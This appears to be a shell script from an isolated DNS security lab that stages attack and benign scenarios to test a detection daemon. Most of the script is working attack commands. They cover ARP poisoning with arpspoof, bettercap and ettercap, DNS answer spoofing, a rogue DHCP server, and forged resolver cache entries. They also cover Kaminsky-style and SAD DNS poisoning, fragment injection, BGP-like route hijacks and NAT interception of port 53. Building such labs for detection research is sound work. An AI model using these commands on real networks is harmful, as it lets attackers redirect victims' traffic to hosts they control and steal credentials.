# Attack and benign scenarios. Every attack_X / benign_X leaves its effect in place (so that the daemon can be watched)
# until `lab calm`; each prints a proof from the victim's side.
T=www.bank.lab                                  # default target
A=$LAB/attacks
calm() { # undo everything
  stop $(ls $PID | grep -E '^(atk|cap)-')
  rm -f $VAR/router.args; : >$CONF/isp-extra.conf; : >$CONF/dnsdist-extra.lua; router_nft
  ns attacker nft flush ruleset; ns inet nft flush ruleset; ns auth nft flush ruleset
  ns attacker sh -c 'echo 0 >/proc/sys/net/ipv4/ip_forward'
  ip -n ${P}lan link set br0 type bridge ageing_time 30000
  ns client ip neigh flush all; ns router ip neigh flush all; ns attacker ip neigh flush all
  ip -n ${P}inet route del $PUB1/32 2>/dev/null; ip -n ${P}inet route del $ZONENS/32 2>/dev/null
  ip -n ${P}evil addr del $PUB1/32 dev lo 2>/dev/null; ip -n ${P}evil addr del $ZONENS/32 dev lo 2>/dev/null
  rm -f /etc/netns/${P}client/hosts; echo "nameserver $ROUTER" >/etc/netns/${P}client/resolv.conf
  stop isp router pub4 pub1 pub2 pub3 pub4-rec knotd; rm -rf $VAR/kresd/*.mdb $VAR/knot/*; ( gen_conf ); up 2>/dev/null; say calm
}
restart() { local s; for s; do stop $s; svc_up $s; done; for s; do case $s in router) ready client $ROUTER $T;; isp) ready client $ISP $T;;
  pub1) ready client $PUB1 $T;; pub2) ready client $PUB2 $T;; pub3) ready client $PUB3 $T;; pub4*) ready client $PUB4 $T;; esac; done; }
unb() { ns $1 unbound-control -c $CONF/$1.conf "${@:2}"; }
# arpmitm: poison client<->router with dsniff's arpspoof
wait_arp() { local i; for i in $(seq 60); do ns client ip neigh | grep -q "^$ROUTER .*02:00:00:00:00:66" && return; ns client ping -c1 -W1 $ROUTER >/dev/null 2>&1; sleep 0.1; done; say "ARP not poisoned"; }
arp_on() { start atk-arp1 attacker arpspoof -i eth0 -t $CLIENT $ROUTER; start atk-arp2 attacker arpspoof -i eth0 -t $ROUTER $CLIENT; wait_arp; }
fwd_on() { ns attacker sh -c 'echo 1 >/proc/sys/net/ipv4/ip_forward; echo 0 >/proc/sys/net/ipv4/conf/all/send_redirects; echo 0 >/proc/sys/net/ipv4/conf/eth0/send_redirects'; }
swallow() { ns attacker nft -f - <<<'table ip f { chain c { type filter hook forward priority 0; udp dport 53 drop; }
}'; }   # the man in the middle does not forward the query: the genuine answer never exists
proof() { local t=${2:-$ROUTER} n=${3:-$T}; capture proof client eth0 "udp port 53 or tcp port 53 or arp"; sleep 0.1
  say "victim asks $t for $n:"; brief $t $n; sleep ${WAIT:-0.3}; say "wire at the victim:"; showcap proof ${1:-14}; }

# ---------------------------------------------------------------- LAN attacks
attack_dnsspoof() {        # dsniff arpspoof + dnsspoof; genuine answers still pass => two answers.  arg "drop": attacker swallows the query
  echo "$EVIL $T" > $VAR/dnsspoof.hosts; fwd_on; arp_on
  [ "$1" = drop ] && swallow
  start atk-dnsspoof attacker dnsspoof -i eth0 -f $VAR/dnsspoof.hosts "udp dst port 53 and src $CLIENT"; sleep 0.7
  WAIT=1.5 BOPTS=+noedns proof 24; }   # dnsspoof ignores queries that carry EDNS (arcount != 0): +noedns like glibc
attack_bettercap() {       # bettercap arp.spoof + dns.spoof
  fwd_on                     # or the first seconds of it are an outage, and no alert leaves the host either
  ns attacker ping -c1 -W1 $CLIENT >/dev/null; ns attacker ping -c1 -W1 $ROUTER >/dev/null    # bettercap needs both in the ARP table
  start atk-bettercap attacker bettercap -iface eth0 -gateway-override $ROUTER -no-colors -no-history -eval \
    "set arp.spoof.targets $CLIENT; set arp.spoof.fullduplex true; set dns.spoof.domains $T; set dns.spoof.address $EVIL; set dns.spoof.all true; set dns.spoof.ttl 1024; arp.spoof on; dns.spoof on"
  [ "$1" = drop ] && swallow
  wait_arp; sleep 1; proof; }
attack_ettercap() {        # ettercap MITM + dns_spoof plugin (forwards in user space, swallows the genuine query)
  echo "$T A $EVIL 3600" > $VAR/etter.dns; mkdir -p /etc/netns/${P}attacker; cp /etc/ettercap/etter.dns $VAR/etter.dns.orig 2>/dev/null
  mkdir -p /etc/netns/${P}attacker/ettercap; cp -r /etc/ettercap/. /etc/netns/${P}attacker/ettercap/; cp $VAR/etter.dns /etc/netns/${P}attacker/ettercap/etter.dns
  sed -i 's/^ec_uid = .*/ec_uid = 0/; s/^ec_gid = .*/ec_gid = 0/' /etc/netns/${P}attacker/ettercap/etter.conf
  start atk-ettercap attacker ettercap -T -q -i eth0 -P dns_spoof -M arp:remote "/$CLIENT//" "/$ROUTER//"; wait_arp; sleep 2; proof; }
attack_race() {            # on-path injector on a shared medium (hub): two conflicting answers. Genuine delayed by dnsdist 40 ms
  ip -n ${P}lan link set br0 type bridge ageing_time 0       # bridge floods like a hub / open Wi-Fi
  echo "addAction(AllRule(), DelayAction(${1:-40}))" > $CONF/dnsdist-extra.lua; stop pub4; svc_up pub4; sleep 0.3
  start atk-race attacker /usr/bin/python3 $A/race.py eth0 $T $EVIL 60; for i in $(seq 60); do grep -q ready $LOG/atk-race.log && break; sleep 0.1; done
  proof 14 $PUB4; }
attack_rogue_dhcp() {      # rogue DHCP server hands out the attacker's resolver
  start atk-dns attacker dnsmasq -k -u root --conf-file=/dev/null --no-resolv --no-hosts --log-facility=- --pid-file= --interface=eth0 --bind-interfaces \
    --server=$ISP --address=/$T/$EVIL --dhcp-range=10.77.0.100,10.77.0.150,1h --dhcp-option=6,$ATTACKER --dhcp-option=3,$ROUTER --dhcp-leasefile=$VAR/leases
  echo "nameserver $ATTACKER" >/etc/netns/${P}client/resolv.conf; sleep 0.5; proof 12 $ATTACKER; }
attack_hosts() { printf '127.0.0.1 localhost\n%s %s\n' $EVIL $T >/etc/netns/${P}client/hosts; say "getent:"; ns client getent ahostsv4 $T; }   # local tampering
attack_resolvconf() { echo "nameserver $EVIL" >/etc/netns/${P}client/resolv.conf; evil_dns; ns client getent ahostsv4 $T; }
evil_dns() { # rogue recursive resolver of the attacker: forges $T, passes the rest on to isp's view through pub1
  start atk-evildns evil dnsmasq -k -u root --conf-file=/dev/null --no-resolv --no-hosts --log-facility=- --pid-file= --server=$PUB2 --address=/$T/$EVIL "$@"; sleep 0.3; }

# ---------------------------------------------------------------- resolver / cache attacks
attack_unbound_cache() {   # cache poisoning of the isp: load_cache with a forged RRset
  q $ISP shop.lab A >/dev/null; n=${1:-www.shop.lab}
  { printf 'START_RRSET_CACHE\n;rrset 3600 1 0 2 0\n%s.\t3600\tIN\tA\t%s\nEND_RRSET_CACHE\nSTART_MSG_CACHE\nmsg %s. IN A 33152 1 3600 0 1 0 0\n%s. IN A 0\nEND_MSG_CACHE\nEOF\n' $n $EVIL $n $n; } > $VAR/poison.cache
  unb isp flush $n; unb isp load_cache < $VAR/poison.cache; for r in $RESOLVERS; do echo "${r%=*} $(brief ${r#*=} $n)"; done; }
attack_unbound_localdata() { n=${1:-$T}; unb isp local_zone $n redirect; unb isp local_data "$n 3600 IN A $EVIL"; say isp:; brief $ISP $n; say "pub1:"; brief $PUB1 $n; }
attack_bind_addzone() {    # rndc: bind becomes "authoritative" for the victim zone (AA bit set)
  printf '$TTL 3600\n@ SOA ns.%s. h. 1 1 1 1 1\n@ NS ns.%s.\nns A %s\n@ A %s\n' $T $T $EVIL $EVIL > $VAR/named-pub2/forged.zone
  grep -q allow-new-zones $CONF/pub2.conf || { sed -i 's/^options {/options { allow-new-zones yes;/' $CONF/pub2.conf; restart pub2; }
  ns pub2 rndc -c $CONF/rndc.conf addzone $T "{ type primary; file \"$VAR/named-pub2/forged.zone\"; };"; say pub2:; brief $PUB2 $T; q $PUB2 $T | grep flags; }
attack_kresd_hints() { printf "hints.set('%s %s')\n" $T $EVIL | ns pub3 socat -t1 - UNIX-CONNECT:$VAR/pub3.sock; say pub3:; brief $PUB3 $T; }
attack_dnsmasq_address() { echo "--address=/$T/$EVIL" > $VAR/router.args; restart router; proof 8; }
attack_pdns_lua() { cat > $CONF/pdns-rec/forge.lua <<X
function preresolve(dq) if dq.qname:equal("$T") then dq:addAnswer(pdns.A, "$EVIL", 3600); dq.rcode=0; return true end; return false end
X
  ns pub4 rec_control --config-dir=$CONF/pdns-rec --socket-dir=$VAR/pdns-rec reload-lua-script $CONF/pdns-rec/forge.lua; say pub4:; brief $PUB4 $T; }
attack_dnsdist_spoof() { echo "addAction(QNameRule('$T.'), SpoofAction({'$EVIL'}, {ttl=3600}))" > $CONF/dnsdist-extra.lua; restart pub4; say pub4:; brief $PUB4 $T; }
attack_kaminsky() {        # real blind off-path poisoning of a weak resolver (fixed source port, no DNSSEC); args: ROUNDS MODE
  printf '  module-config: "iterator"\n  outgoing-port-avoid: 0-65535\n  outgoing-port-permit: 33333\n  outgoing-range: 1\n  num-queries-per-thread: 512\n  harden-dnssec-stripped: no\n  harden-glue: no\n  unwanted-reply-threshold: 0\n  so-rcvbuf: 8m\n  jostle-timeout: 5000\n' > $CONF/isp-extra.conf
  sed -i '/trust-anchor-file/d' $CONF/isp.conf; restart isp; brief $ISP shop.lab >/dev/null
  local p=$(cat $PID/knotd)                     # hold the genuine server for a moment: stands for an RRL/DoS-muted authority
  [ "${2:-}" = kaminsky ] && evil_dns --address=/shop.lab/$EVIL
  kill -STOP $p; ns evil timeout 60 /usr/bin/python3 $A/kaminsky.py $ISP 33333 $ZONENS shop.lab $([ "${2:-}" = kaminsky ] && echo ns9.shop.lab || echo www.shop.lab) $EVIL ${1:-3} ${2:-answer}; kill -CONT $p
  sleep 0.5; unb isp dump_cache | grep -E "^[a-z0-9.]*shop.lab.*$EVIL|^shop.lab.*NS" | head -5; say isp:; brief $ISP www.shop.lab; say "pub1 (random ports, genuine):"; brief $PUB1 www.shop.lab; unb isp stats_noreset | grep -E 'unwanted.replies'; }
attack_txid_flood() {      # blind flood of wrong txids at the VICTIM's stub port from a LAN host that sees nothing; arg: step (1 = all 65536 txids, hits)
  capture flood client eth0 "udp and host $ROUTER and port 53"
  kill -STOP $(cat $PID/router)                 # the genuine answer is late
  ( ns client dig -b $CLIENT#40000 @$ROUTER www.shop.lab +noedns +tries=1 +time=4 | grep -E 'IN.*A|mismatch|status|timed' | awk '/mismatch/{m++; next} {print} END{print m" answers with a wrong id seen by dig"}' ) & local j=$!; sleep 0.5
  ns attacker timeout 30 /usr/bin/python3 $A/kaminsky.py $CLIENT 40000 $ROUTER shop.lab www.shop.lab $EVIL 1 flood ${1:-1}
  kill -CONT $(cat $PID/router); wait $j; showcap flood 6; tcpdump -n -r $CAP/flood.pcap 2>/dev/null | awk '/53 > /{n++} END{print n" responses at the victim"}'; }
attack_saddns() { capture sad isp eth0 "icmp or (udp and src port 53 and src host $ZONENS)"; ns evil timeout 60 /usr/bin/python3 $A/saddns.py $ISP $ZONENS $EVIL ${1:-33000} ${2:-20}; showcap sad 12; }
attack_frag() {            # second-fragment injection into isp (4096-byte EDNS, no DNSSEC for shop.lab)
  printf '  edns-buffer-size: 4096\n  max-udp-size: 4096\n' > $CONF/isp-extra.conf; restart isp
  brief $ISP shop.lab >/dev/null
  # let the resolver hold a planted fragment for every IP id (a patient attacker predicts the id instead)
  ns isp sh -c 'echo 268435456 >/proc/sys/net/ipv4/ipfrag_high_thresh; echo 0 >/proc/sys/net/ipv4/ipfrag_max_dist'
  capture frag isp eth0 "host $ZONENS and udp and src $ZONENS and (ip[6:2] & 0x1fff = 0 or ip[4:2] & 0xfff = 0)"
  ns evil timeout 60 /usr/bin/python3 $A/frag.py $ISP $ZONENS many.shop.lab ${1:-198.18.61.95} $EVIL ${2:-65536}; sleep 1
  q $ISP many.shop.lab A +short | grep -c . ; q $ISP many.shop.lab A +short | grep -F $EVIL && say "POISONED: forged address inside the genuine RRset"; showcap frag 16; ns isp nstat -az IpReasm* IpExtInCsumErrors UdpInCsumErrors 2>/dev/null | grep -v '^#'; }

# ---------------------------------------------------------------- path attacks
intercept() { # PROTO-EXPR: the router diverts the LAN's port 53 to the attacker's resolver, whatever address was asked
  evil_dns; ns router nft -f - <<X
flush ruleset
table ip nat {
  chain pre { type nat hook prerouting priority dstnat; iifname "lan0" $1 dnat to $EVIL:53; }
  chain post { type nat hook postrouting priority srcnat; oifname "wan0" masquerade; }
}
X
}
attack_dnat_udp()    { intercept 'udp dport 53'; proof 8 $PUB1; say "same over TCP:"; brief $PUB1 $T A +tcp; }
attack_dnat_all()    { intercept 'meta l4proto { tcp, udp } th dport 53'; proof 8 $PUB1; say "same over TCP:"; brief $PUB1 $T A +tcp; say "DoT:"; ns client kdig @$PUB1 $T +tls-ca=$TLS/lab-ca.pem +tls-hostname=dns.pub1.lab +short; }
attack_block_dot()   { ns router nft -f - <<<'table inet b { chain f { type filter hook forward priority 0; iifname "lan0" tcp dport { 853, 443 } ip daddr 198.18.11.0-198.18.14.255 reject with tcp reset; }
}'; ns client kdig @$PUB1 $T +tls +time=2 +retry=0 2>&1 | tail -2; brief $PUB1 $T; }
attack_auth_hijack() {     # BGP-like hijack of the authoritative server's address: EVERY resolver gets the same forged answer
  ip -n ${P}evil addr add $ZONENS/32 dev lo 2>/dev/null; ip -n ${P}inet route replace $ZONENS/32 via $EVIL
  start atk-evilauth evil dnsmasq -k -u root --conf-file=/dev/null --no-resolv --no-hosts --log-facility=- --pid-file= --port=53 --listen-address=$ZONENS --bind-interfaces \
    --auth-server=ns1.shop.lab,lo --auth-zone=shop.lab --host-record=shop.lab,$EVIL --host-record=www.shop.lab,$EVIL --auth-ttl=3600 --address=/shop.lab/$EVIL
  unb isp flush_zone shop.lab; unb pub1 flush_zone shop.lab; ns pub2 rndc -c $CONF/rndc.conf flush; printf "cache.clear('shop.lab.')\ncache.clear('bank.lab.')\n" | ns pub3 socat -t1 - UNIX-CONNECT:$VAR/pub3.sock >/dev/null
  unb isp flush_zone bank.lab; unb pub1 flush_zone bank.lab
  ns pub4 rec_control --config-dir=$CONF/pdns-rec --socket-dir=$VAR/pdns-rec wipe-cache 'shop.lab$' 'bank.lab$' >/dev/null; restart router
  for n in www.shop.lab www.bank.lab; do for r in $RESOLVERS; do echo "$n ${r%=*} $(brief ${r#*=} $n)"; done; done; }
attack_resolver_hijack() { # BGP-like hijack of public resolver 1: 198.18.11.1 answers from the attacker's host (DoT certificate no longer verifies)
  ip -n ${P}evil addr add $PUB1/32 dev lo 2>/dev/null; ip -n ${P}inet route replace $PUB1/32 via $EVIL; evil_dns
  say "pub1 Do53:"; brief $PUB1 $T; say "pub1 DoT:"; ns client kdig @$PUB1 $T +tls-ca=$TLS/lab-ca.pem +tls-hostname=dns.pub1.lab +time=2 +retry=0 2>&1 | tail -1; }
attack_nxdomain_rewrite() { # ISP-style redirect of NXDOMAIN (bind `type redirect`), unsigned names only
  printf '$TTL 60\n@ SOA ns. h. 1 1 1 1 1\n@ NS ns.\n*.shop.lab. A %s\n* A %s\n' $EVIL $EVIL > $VAR/named-pub2/redirect.zone
  grep -q redirect $CONF/pub2.conf || echo "zone \".\" { type redirect; file \"$VAR/named-pub2/redirect.zone\"; };" >> $CONF/pub2.conf; restart pub2
  say "pub2 nx.shop.lab (unsigned):"; brief $PUB2 nx$RANDOM.shop.lab; say "pub2 nx.bank.lab (signed, DO set):"; brief $PUB2 nx$RANDOM.bank.lab; say "pub2 nx.bank.lab without DO:"; ns client dig @$PUB2 nx$RANDOM.bank.lab +noedns +short; say "pub1:"; brief $PUB1 nx$RANDOM.shop.lab; }
attack_adstrip() { printf '  module-config: "iterator"\n' > $CONF/isp-extra.conf; sed -i '/trust-anchor-file/d' $CONF/isp.conf; restart isp; say "isp:"; brief $ISP $T; brief $ISP bogus.lab; say "pub1:"; brief $PUB1 $T; }   # a resolver without validation: no AD, bogus.lab resolves
attack_captive() { evil_dns --address=/#/$EVIL; intercept 'udp dport 53'; for n in $T www.shop.lab edge.cdn.lab nx.example; do echo "$n $(brief $ISP $n)"; done; }
attack_sinkhole_null() { unb isp local_zone $T always_null; brief $ISP $T; unb isp local_zone www.shop.lab always_nxdomain; brief $ISP www.shop.lab; }   # censorship styles

# ---------------------------------------------------------------- benign changes (must NOT alarm)
# The owner changed the zone: this host's resolvers and pub1 follow now, the others when their caches expire.
followed() { unb pub1 flush_zone shop.lab >/dev/null; unb isp flush_zone shop.lab >/dev/null; restart router; }
benign_rotate() { # the owner changes the A records (knotc transaction)
  ns auth knotc -s $VAR/knot/knot.sock zone-begin shop.lab >/dev/null; ns auth knotc -s $VAR/knot/knot.sock zone-unset shop.lab www A >/dev/null
  local ip; for ip in ${*:-198.18.60.31 198.18.60.32}; do ns auth knotc -s $VAR/knot/knot.sock zone-set shop.lab www 300 A $ip >/dev/null; done; ns auth knotc -s $VAR/knot/knot.sock zone-commit shop.lab
  followed; say "authority changed; other resolvers follow as their caches expire:"; for r in $RESOLVERS; do echo "${r%=*} $(brief ${r#*=} www.shop.lab)"; done; }
benign_cdn_migrate() { ns auth sh -c "knotc -s $VAR/knot/knot.sock zone-begin shop.lab; knotc -s $VAR/knot/knot.sock zone-unset shop.lab www A; knotc -s $VAR/knot/knot.sock zone-set shop.lab www 300 CNAME edge.cdn.lab.; knotc -s $VAR/knot/knot.sock zone-commit shop.lab" >/dev/null; followed; for r in $RESOLVERS; do echo "${r%=*} $(brief ${r#*=} www.shop.lab)"; done; }
benign_geodns() { for r in $RESOLVERS; do echo "${r%=*} $(brief ${r#*=} edge.cdn.lab)"; done; }
benign_roundrobin() { for i in 1 2 3; do q $PUB2 rr.cdn.lab A +short | paste -sd' '; done; }
benign_resolver_down() { kill -STOP $(cat $PID/${1:-pub2}); local r=${1:-pub2}; brief $(for x in $RESOLVERS; do [ ${x%=*} = $r ] && echo ${x#*=}; done) $T; }
benign_slow() { echo "addAction(AllRule(), DelayAction(${1:-400}))" > $CONF/dnsdist-extra.lua; restart pub4; ns client dig @$PUB4 $T | grep 'Query time'; }
benign_dns64() { printf '  module-config: "dns64 validator iterator"\n  dns64-prefix: 64:ff9b::/96\n' > $CONF/isp-extra.conf; restart isp; say "isp AAAA v4only:"; brief $ISP v4only.bank.lab AAAA; say "isp AAAA www:"; brief $ISP $T AAAA; say pub1:; brief $PUB1 v4only.bank.lab AAAA; say "isp ipv4only.arpa AAAA:"; brief $ISP ipv4only.arpa AAAA; }
benign_ttl_cap() { printf '  cache-max-ttl: 30\n' > $CONF/isp-extra.conf; restart isp; echo "--max-ttl=10" > $VAR/router.args; restart router; for r in $RESOLVERS; do echo "${r%=*} $(brief ${r#*=} long.bank.lab)"; done; }
benign_ttl_min() { printf '  cache-min-ttl: 3600\n' > $CONF/isp-extra.conf; restart isp; for r in $RESOLVERS; do echo "${r%=*} $(brief ${r#*=} short.bank.lab)"; done; }
benign_stale() { printf '  serve-expired: yes\n  serve-expired-ttl: 3600\n  serve-expired-client-timeout: 200\n  serve-expired-reply-ttl: 30\n' > $CONF/isp-extra.conf; restart isp; brief $ISP short.bank.lab; kill -STOP $(cat $PID/knotd); sleep 6; say "authority down, TTL over:"; ns client dig @$ISP short.bank.lab +noall +answer +comments | grep -E 'EDE|status|IN'; kill -CONT $(cat $PID/knotd); }
benign_split_horizon() { echo "--address=/nas.home.arpa/10.77.0.20 --address=/intranet.shop.lab/10.77.0.21" > $VAR/router.args; restart router; for r in $RESOLVERS; do echo "${r%=*} $(brief ${r#*=} intranet.shop.lab)"; done; }
benign_filter() { unb isp local_zone malware.shop.lab always_nxdomain; printf "addAction(QNameRule('malware.shop.lab.'), SpoofAction('0.0.0.0'))\n" > $CONF/dnsdist-extra.lua; restart pub4; for r in $RESOLVERS; do echo "${r%=*} $(brief ${r#*=} malware.shop.lab)"; done; }
benign_arp_forward() { # somebody stands in the middle and passes everything on as it is
  fwd_on; arp_on; proof 12; }
benign_duplicate() { # the LAN duplicates packets: identical answers twice
  ns client true; ns router tc qdisc add dev lan0 clsact 2>/dev/null; ns router tc filter add dev lan0 egress protocol ip u32 match ip sport 53 0xffff action mirred egress mirror dev lan0 2>&1; proof 10; ns router tc qdisc del dev lan0 clsact; }
